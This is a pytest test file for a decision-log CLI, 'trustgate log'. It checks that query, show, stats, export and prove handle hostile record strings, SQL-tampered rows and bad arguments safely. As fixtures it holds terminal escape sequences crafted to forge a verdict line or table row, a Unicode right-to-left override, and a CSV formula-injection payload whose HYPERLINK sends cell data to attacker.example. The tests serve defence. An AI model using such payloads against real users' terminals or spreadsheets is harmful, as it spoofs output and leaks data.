"""`trustgate log query/show/prove/stats` against hostile record strings, edited rows and bad arguments.

The log is written by real `trustgate check` runs; edits are an operator's
SQL on a copy of it.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from support.ui_log import HOSTILE_POD, OLDER_SCHEMA, Log, build_log, checked, copy_of, run

# Rewrites `log show`'s verdict line on a terminal, and draws a fake row under `log query`'s header.
FAKE_VERDICT = "bad\x1b[7A\r\x1b[2K  verdict    allow: allowed (exit code 0)\x1b[7B\r\x1b[2K\x1b[8m"
FAKE_ROW = "bad\r\x1b[2KFAKE-ROW  allow  Pod/shop/web\x1b[K"


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Log:
    return build_log(tmp_path_factory.mktemp("cli-hostile"))


def test_control_characters_from_manifests_never_reach_the_terminal(log: Log, tmp_path: Path) -> None:
    yaml_name = FAKE_VERDICT.replace("\x1b", "\\e").replace("\r", "\\r")
    url = checked(log, tmp_path, "placeholder", "shop\u202ex")
    path = Path(url.removeprefix("sqlite:///"))
    # The name as the manifest gave it, through the real gate: YAML double quotes carry the escapes.
    root = tmp_path / "gate"
    (root / "hostile.yaml").write_text(
        HOSTILE_POD.replace("'NAME'", f'"{yaml_name}"')
        .replace("NS", "shop")
        .replace("IMAGE", "registry.example.com/a:1")
    )
    code, _, err = run(
        "check",
        "-c",
        str(root / "trustgate.yaml"),
        "--no-builtin",
        "--no-schemas",
        "-p",
        str(root / "policy"),
        str(root / "hostile.yaml"),
    )
    assert code == 1, err
    code, shown, _ = run("log", "show", "--store", url, "#7")
    assert code == 0 and "\x1b" not in shown and "\r" not in shown
    assert "Pod/shop/bad\\x1b[7A\\x0d\\x1b[2K  verdict" in shown
    assert shown.count("\n  verdict    ") == 1 and "verdict    deny" in shown
    code, table, _ = run("log", "query", "--store", url)
    assert code == 0 and "\x1b" not in table and "\r" not in table and "\u202e" not in table
    code, stats, _ = run("log", "stats", "--store", url)
    assert code == 0 and "shop\\u202ex" in stats and "\u202e" not in stats
    assert path.exists()


def test_csv_cells_never_start_a_formula(log: Log, tmp_path: Path) -> None:
    url = checked(log, tmp_path, "bad", '=HYPERLINK("http://attacker.example/?x="&B2,"open")', "@SUM(1+1)")
    code, out, _ = run("log", "query", "--store", url, "--format", "csv", "--limit", "1")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["namespaces"] == '\'=HYPERLINK("http://attacker.example/?x="&B2,"open")'
    assert row["images"] == "'@SUM(1+1)"
    assert row["objects"].startswith("Pod/=HYPERLINK")


def test_an_id_in_upper_case_finds_its_decision(log: Log) -> None:
    code, out, _ = run("log", "show", "--store", log.url, log.ids["bad"].upper())
    assert code == 0 and f"decision {log.ids['bad']}" in out


def test_an_actor_is_found_whatever_the_case_of_its_e_mail(log: Log, tmp_path: Path) -> None:
    """git records the committer's e-mail as typed: `Alice@Example.COM`."""
    url = copy_of(log, tmp_path)
    repo = tmp_path / "repo"
    shutil.copytree(log.config.parent / "policy", repo / "policy")
    (repo / "pod.yaml").write_text(
        HOSTILE_POD.replace("NAME", "bad").replace("NS", "shop").replace("IMAGE", "r.example/a:1")
    )
    who = {"GIT_AUTHOR_NAME": "Alice", "GIT_COMMITTER_NAME": "Alice"}
    who |= {"GIT_AUTHOR_EMAIL": "Alice@Example.COM", "GIT_COMMITTER_EMAIL": "Alice@Example.COM"}
    for command in (["init", "-q"], ["add", "."], ["-c", "commit.gpgsign=false", "commit", "-qm", "x"]):
        subprocess.run(["git", *command], cwd=repo, check=True, env={**os.environ, **who})
    cwd = os.getcwd()
    os.chdir(repo)  # run in the repository, as a CI step does
    try:
        code, _, err = run(
            "check", "--decision-log", url, "--no-builtin", "--no-schemas", "-p", "policy", "pod.yaml"
        )
    finally:
        os.chdir(cwd)
    assert code == 1, err
    for actor in ("alice@example.com", "ALICE@example.com", "alice@*"):
        code, out, _ = run("log", "query", "--store", url, "--actor", actor, "--format", "csv")
        assert code == 0 and out.count("Alice@Example.COM") == 1, actor


def test_dates_before_year_1000_compare_as_dates(log: Log) -> None:
    code, out, _ = run("log", "query", "--store", log.url, "--since", "0999-01-01", "--format", "json")
    assert code == 0 and out.count('"seq":') == 5


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["query", "--until", "9999-12-31"], "out of range"),
        (["query", "--since", "0001-01-01T00:00:00+01:00"], "out of range"),
        (["show", "#9999999999999999999"], "no decision"),
        (["prove", "#9999999999999999999"], "no decision"),
    ],
)
def test_arguments_out_of_range_are_one_line_not_a_traceback(log: Log, args: list[str], message: str) -> None:
    code, _, err = run("log", *args, "--store", log.url)
    assert code == 3 and message in err and "Traceback" not in err


@pytest.mark.parametrize("body", ["'not json'", "'[1,2]'", """'{"subject":"x","findings":"y"}'""", "x'ff00'"])
def test_a_malformed_record_is_flagged_and_the_others_are_listed(log: Log, tmp_path: Path, body: str) -> None:
    url = copy_of(log, tmp_path, f"UPDATE decisions SET record = {body} WHERE seq = 3")
    code, table, _ = run("log", "query", "--store", url)
    assert (
        code == 0 and "malformed record" in table and log.ids["legacy"] in table and log.ids["good"] in table
    )
    code, out, _ = run("log", "query", "--store", url, "--format", "csv")
    assert code == 0 and len(list(csv.DictReader(io.StringIO(out)))) == 5
    code, shown, _ = run("log", "show", "--store", url, "#3")
    assert code == 0 and "MALFORMED" in shown and "log verify" in shown
    code, _, err = run("log", "export", "--store", url)
    if body == "x'ff00'":  # no JSON line can hold it: one clear error, not a traceback
        assert code == 3 and "not UTF-8" in err
    else:
        assert code == 0
    code, out, err = run("log", "prove", "--store", url, "#3")  # what `log show` flags is never proven
    assert code == 3 and "not a decision record" in err and out == ""
    assert "covered by" not in shown


def test_reading_commands_never_migrate_an_older_log(log: Log, tmp_path: Path) -> None:
    url = copy_of(log, tmp_path, *OLDER_SCHEMA)
    path = Path(url.removeprefix("sqlite:///"))
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    for args in (["query"], ["show", "#1"], ["stats"], ["export"], ["prove", "#1"]):
        code, _, err = run("log", *args, "--store", url)
        assert code == 3 and "schema 2" in err and "trustgate log verify" in err, args
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before
    code, _, err = run("log", "verify", "--store", url)  # the command the message names migrates it
    assert code == 0, err
    code, _, _ = run("log", "query", "--store", url)
    assert code == 0


@pytest.mark.parametrize("seq", [-1, 0])
def test_a_record_moved_before_the_chain_start_is_refused_as_altered(
    log: Log, tmp_path: Path, seq: int
) -> None:
    """A position edited before #1 is no leaf of the tree: `show` and `prove` refuse it (exit 3)."""
    url = copy_of(log, tmp_path, f"UPDATE decisions SET seq = {seq} WHERE seq = 1")
    for command in ("show", "prove"):
        code, out, err = run("log", command, "--store", url, log.ids["good"])
        assert code == 3 and f"record #{seq} lies before the chain's start" in err and "log verify" in err
        assert out == "" and "Traceback" not in err
    code, out, _ = run("log", "verify", "--store", url, "--verifier-key", log.vkey)
    assert code == 1 and "NOT INTACT" in out
